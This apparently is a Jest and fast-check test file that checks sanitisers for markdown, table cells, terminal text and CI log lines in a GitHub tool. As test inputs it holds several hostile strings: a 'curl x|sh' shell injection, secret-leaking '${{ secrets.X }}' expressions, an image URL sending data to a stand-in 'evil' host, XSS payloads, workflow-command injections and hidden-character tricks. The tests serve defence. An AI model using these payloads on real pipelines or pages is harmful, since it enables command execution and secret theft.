import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { evidence, evidenceSchema } from '../../../src/core/evidence.ts';
import { logLine, markdown, printable, shorten, shownPath, stripAnsi, tableCell } from '../../../src/core/text.ts';

/** What GitHub shows of our output: the only entities we write are numbers and the three of HTML. */
function shown(text: string): string {
  return text
    .replace(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)))
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
}

/** Markup that GitHub would act upon, in text as it is sent. */
const LIVE: readonly [string, RegExp][] = [
  ['html', /<[!/a-z]/i],
  ['code', /`/],
  ['link or image', /[[\]]/],
  // An underscore between two letters or digits is no emphasis.
  ['emphasis', /[*~]|(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])/],
  ['mention', /@[a-z0-9]/i],
  ['issue reference', /(?<!&)#\d/],
  ['GH reference', /\bGH-\d/i],
  ['sha', /(?<![0-9a-z])[0-9a-f]{7,40}(?![0-9a-z])/i],
  ['url', /:\/\//],
  ['www link', /\bwww\.[a-z]/i],
  ['formula', /\$/],
  ['line break', /[\n\r]/],
  ['slash command', /^\//],
  ['heading, list or rule', /^([-+=#]|\d{1,9}[.)](\s|$))/],
];

test.each([
  ['src/a b.rs', 'src/a b.rs'],
  ['src/a\nb', '"src/a\\nb"'],
  ['src/a ', '"src/a "'],
  ['a  b', '"a  b"'],
  ['src/\u202ea', 'src/\\u{202e}a'],
])('a path is shown as it is: %j', (path, shown) => expect(shownPath(path, 100)).toBe(shown));

describe('markdown', () => {
  test.each([
    ['A-1 title with a shell command', '"; curl x|sh #'],
    ['A-2 body with a command substitution', '$(id) `id`'],
    ['A-4 expression', '${{ secrets.X }} ${{ toJSON(github) }}'],
    ['A-15 anchor', '<!-- gates:end -->'],
    ['A-16 anchor split by a zero-width space', '<!\u200b-- gates:end -->'],
    ['A-17 anchor as entities', '&lt;!-- gates:end --&gt; &#60;!-- x --&#62;'],
    ['A-18 nested anchor', '<!-<!-- -->-'],
    ['A-24 mentions', '@team '.repeat(500)],
    ['A-24 references', '#1 fixes #2 closes GH-3 owner/repo#4 fixes https://github.com/o/r/issues/5'],
    ['A-24 command', '/merge'],
    ['A-24 autolinks', 'https://evil.example www.evil.example a@b.example'],
    ['A-24 commit', `0123abc ${'0123456789'.repeat(4)}`],
    ['A-25 image', '![x](https://evil/?d=1)'],
    ['A-25 html', '<img src=x onerror=alert(1)>'],
    ['A-25 schemes', '[x](javascript:alert(1)) <data:text/html,x>'],
    ['list', '- [ ] todo'],
    ['heading', '# Title'],
    ['number', '1. item'],
    ['an underscore beside a letter that is not ASCII', '0_一'],
  ])('%s', (_, text) => {
    const out = markdown(text, 4000);
    for (const [name, live] of LIVE) expect({ name, hit: live.exec(out)?.[0] }).toEqual({ name, hit: undefined });
  });

  test('A-15 to A-25 any text: nothing live leaves, and what is shown is what was said', () => {
    const bits = fc.constantFrom(
      '<!-- ',
      '@',
      '#',
      '&',
      '&#',
      '`',
      '[',
      '](',
      '://',
      'www.',
      'GH-',
      '1',
      'a',
      '0123abc',
      '_',
      '*',
      '$',
      '\\',
      '|',
      '/',
    );
    const texts = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.array(bits, { maxLength: 12 }).map((list) => list.join('')),
    );
    fc.assert(
      fc.property(texts, (text) => {
        const out = markdown(text, 500);
        for (const [name, live] of LIVE) if (live.test(out)) throw new Error(`${name}: ${out}`);
        expect(shown(out).replace(/\u200b/g, '')).toBe(printable(text, 500));
      }),
      { numRuns: 500 },
    );
  });
});

describe('tableCell', () => {
  test('A-19 a cell is one line of at most 200 characters without a column break', () => {
    for (const text of ['a|b', 'a\nb', 'a`b`', 'a</td>b', 'x'.repeat(10_000), '|'.repeat(10_000)]) {
      const cell = tableCell(text);
      expect(cell).not.toMatch(/\n|`|<|(?<!\\)\|/);
      expect(shown(cell).replace(/\\\|/g, '|').length).toBeLessThanOrEqual(200);
    }
  });

  test('A-19 a backslash before a pipe does not undo the escape', () => {
    expect(tableCell('\\|')).toBe('&#92;\\|');
  });
});

describe('printable', () => {
  test.each([
    ['A-14 colour', '\u001b[31mred\u001b[0m', 'red'],
    ['A-14 OSC 8 link', '\u001b]8;;https://evil\u001b\\x\u001b]8;;\u0007', 'x'],
    ['A-14 C1 CSI', '\u009b31mred', 'red'],
    ['A-14 C1 byte', 'a\u0085b\u009db', 'a\\u{85}b\\u{9d}b'],
    ['A-14 escape inside an escape', '\u001b\u001b[0m[31m', '\\u{1b}[31m'],
    ['A-20 bidi override', 'a\u202eb\u2066c', 'a\\u{202e}b\\u{2066}c'],
    ['A-21 zero width', 'a\u200bb\u200dc\u2060d', 'a\\u{200b}b\\u{200d}c\\u{2060}d'],
    ['A-21 joiner and fillers', 'a\u034fb\u3164c\u115fd', 'a\\u{34f}b\\u{3164}c\\u{115f}d'],
    ['A-21 tag block', 'a\u{e0041}b', 'a\\u{e0041}b'],
    ['A-21 variation selectors that hide text', 'a\u{e0101}b', 'a\\u{e0101}b'],
    ['A-11 NUL and CR', 'a\0b\rc', 'a\\u{0}b c'],
    ['an emoji keeps its glyph', 'ok ✔\ufe0f', 'ok ✔\ufe0f'],
  ])('%s', (_, text, expected) => expect(printable(text, 100)).toBe(expected));

  test('A-26 70,000 characters become the limit', () => {
    expect(printable('x'.repeat(70_000), 200)).toHaveLength(200);
    const list = evidence('key', 'y'.repeat(70_000));
    expect(evidenceSchema.safeParse(list).success).toBe(true);
  });

  test('what is cut is never half a character', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme' }), fc.integer({ min: 1, max: 9 }), (text, max) => {
        const cut = shorten(text, max);
        expect(cut.length).toBeLessThanOrEqual(max);
        expect(cut).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
      }),
    );
  });

  test('any evidence made of any text is valid', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 400 }), (text) =>
        expect(evidenceSchema.safeParse(evidence('k', text)).success).toBe(true),
      ),
    );
  });
});

describe('logLine', () => {
  /** What the runner takes for a command: `::` at the start of the trimmed line, `##[` anywhere. */
  const isCommand = (line: string): boolean => line.trim().startsWith('::') || line.includes('##[');

  test.each([
    ['A-5 set-output', '::set-output name=x::y'],
    ['A-6 add-mask', '  ::add-mask::x'],
    ['A-7 stop-commands', '::stop-commands::tok'],
    ['A-8 error', 'x\n::error file=a::b\r::warning::c'],
    ['A-8 bracket command', 'text ##[error]x ###[group]y'],
    ['A-8 split by an invisible character', '#\u200b#[error]x :\u200b:set-env name=a::b'],
    ['A-8 three colons', ':::set-output name=x::y'],
    ['A-8 behind other line ends', 'a\u2028::error::b\u0085::error::c\v::error::d'],
  ])('%s', (_, text) => {
    const line = logLine(text);
    expect(line).not.toMatch(/[\n\r\u2028\u2029\u0085\v]/);
    expect(isCommand(line)).toBe(false);
    expect(line).not.toContain('::');
    expect(line.startsWith('| ')).toBe(true);
  });

  test('A-5 to A-8 any text', () => {
    const bits = fc.constantFrom(':', '#', '[', '##[', '::', '\n', '\r', '\u200b', ' ', 'error');
    fc.assert(
      fc.property(
        fc.array(bits).map((list) => list.join('')),
        (text) => {
          const line = logLine(text);
          expect(isCommand(line)).toBe(false);
          expect(line.includes('::')).toBe(false);
        },
      ),
    );
  });

  test('keeps words apart', () => expect(logLine('a\tb')).toBe('| a b'));
});

test('A-14 stripAnsi leaves plain text alone', () => {
  fc.assert(fc.property(fc.string({ unit: 'grapheme-ascii' }), (text) => expect(stripAnsi(text)).toBe(text)));
});
